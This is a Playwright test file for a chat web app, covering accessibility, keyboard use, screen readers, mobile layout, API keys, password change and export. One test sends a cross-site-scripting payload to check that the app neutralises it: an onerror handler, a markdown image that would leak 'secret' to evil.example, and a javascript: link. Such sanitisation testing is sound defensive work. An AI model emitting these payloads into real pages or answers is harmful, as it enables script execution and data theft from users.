import { readFile } from 'node:fs/promises';
import { expectContrast, expectNoBarriers } from './no-barriers';
import { PageDriver, PASSWORD } from './page-driver';
import { expect, test } from './product';

test('every state of the page is free of barriers, in light and in dark', async ({ page, product: { stack } }) => {
  await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'reduce' });
  const expectNone = async (state: string): Promise<void> => {
    await expectNoBarriers(page, state);
    await page.emulateMedia({ colorScheme: 'dark' });
    await expectContrast(page, `${state}, dark`);
    await page.emulateMedia({ colorScheme: 'light' });
  };
  const driver = new PageDriver(page);
  await page.goto(`${stack.origin}/signin`);
  await driver.button('Sign in').waitFor();
  await expectNone('sign in');
  await driver.signUp(stack.origin);
  await expectNone('empty');
  await driver.send('[[sim rate=60]] Everything, please.');
  await expect.poll(() => driver.answerText()).not.toBe('');
  await expectNone('streaming');
  await driver.finished();
  await expectNone('answered');
  await driver.send('[[sim status=400]] Refused.');
  await expect(driver.log.getByText(/did not accept/i)).toBeVisible();
  await expectNone('failed');
  await page.goto(`${stack.origin}/settings`);
  await page.getByRole('radio', { name: 'Dark' }).waitFor();
  await expectNone('settings');
});

test('the main way goes by keyboard alone, from a new account on', async ({ page, product: { stack } }) => {
  const driver = new PageDriver(page);
  await page.goto(`${stack.origin}/`);
  await page.getByRole('textbox', { name: 'Email' }).focus();
  await page.keyboard.type(driver.email);
  await page.keyboard.press('Tab');
  await page.keyboard.type(PASSWORD);
  await driver.button('Create account').press('Enter');
  await expect(driver.messageBox).toBeVisible();
  await page.keyboard.press('Control+Shift+o');
  await expect(driver.messageBox).toBeFocused();
  await page.keyboard.type('[[sim tokens=300 rate=50]] Typed.');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('On two lines.');
  await page.keyboard.press('Enter');
  await expect(driver.button('Stop')).toBeVisible();
  await expect.poll(() => driver.answerText()).toMatch(/t3 /);
  await page.keyboard.press('Escape');
  await expect(driver.log.getByText(/Stopped, \d+ tokens/)).toBeVisible();
  await page.keyboard.press('Control+/');
  await expect(page.getByRole('dialog')).toBeVisible();
});

test('a screen reader hears the start and the end of an answer, and not each token', async ({ driver, page }) => {
  await page.evaluate(() => {
    const heard: string[] = [];
    Object.assign(globalThis, { heard });
    const regions = '[aria-live="polite"], [role="status"]';
    new MutationObserver(() => {
      for (const region of document.querySelectorAll(regions)) {
        const text = region.textContent?.trim() ?? '';
        if (text && heard.at(-1) !== text) heard.push(text);
      }
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  await driver.send('[[sim tokens=60 rate=60]] Spoken.');
  await driver.finished();
  const heard = await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard);
  expect(heard.some((text) => /answer|assistant/i.test(text))).toBe(true);
  expect(heard.filter((text) => /t1 t2/.test(text)).length).toBeLessThanOrEqual(1);
});

test('everything is there on a phone', async ({ browser, product: { stack } }) => {
  const context = await browser.newContext({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });
  const driver = new PageDriver(await context.newPage());
  await driver.signUp(stack.origin);
  await driver.ask('[[sim tokens=30]] From a phone.');
  const overhang = await driver.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(overhang).toBeLessThanOrEqual(0);
  await driver.button('Open sidebar').click();
  await expect(driver.conversations.getByRole('link', { name: /From a phone/ })).toBeVisible();
  await context.close();
});

test('a script in an answer never runs, and no image is fetched from elsewhere', async ({ driver, page }) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) foreign.push(request.url());
  });
  const attack = '<img src=x onerror=globalThis.hacked=1> ![x](https://evil.example/?q=secret) [y](javascript:globalThis.hacked=1)';
  await driver.ask(`${attack} [[sim rate=400]]`);
  await expect(driver.answers.last()).toContainText('You wrote');
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
  expect(foreign).toEqual([]);
  await expect(driver.answers.last().locator('a[href^="javascript"]')).toHaveCount(0);
});

test('a key is made, shown once, used by a program and revoked', async ({ driver, page, product: { stack } }) => {
  await page.goto(`${stack.origin}/settings`);
  await page.getByLabel('Name of a new key').fill('laptop');
  await driver.button('Make a key').click();
  const key = (await page.getByRole('status').getByText(/^parley-/).innerText()).trim();
  const models = (): Promise<Response> => fetch(`${stack.origin}/v1/models`, { headers: { authorization: `Bearer ${key}` } });
  expect((await models()).status).toBe(200);
  await page.reload();
  await expect(driver.button('Revoke laptop')).toBeVisible();
  await expect(page.getByText(key)).toHaveCount(0);
  await driver.button('Revoke laptop').click();
  await expect(driver.button('Revoke laptop')).toBeHidden();
  await expect.poll(async () => (await models()).status, { timeout: 20_000 }).toBe(401);
});

test('the password is changed, and everything that was said can be taken along', async ({ driver, page, product: { stack } }) => {
  await driver.ask('[[sim tokens=3]] Take me along.');
  await page.goto(`${stack.origin}/settings`);
  await page.getByLabel('Current password').fill('not the right one at all');
  await page.getByLabel('New password').fill('another long and private one');
  await driver.button('Change password').click();
  await expect(page.getByText(/current password is wrong/i)).toBeVisible();
  await page.getByLabel('Current password').fill(PASSWORD);
  await driver.button('Change password').click();
  await expect(page.getByText(/password was changed/i)).toBeVisible();
  const [download] = await Promise.all([page.waitForEvent('download'), driver.button('Export').click()]);
  expect(await readFile(await download.path(), 'utf8')).toContain('Take me along.');
});
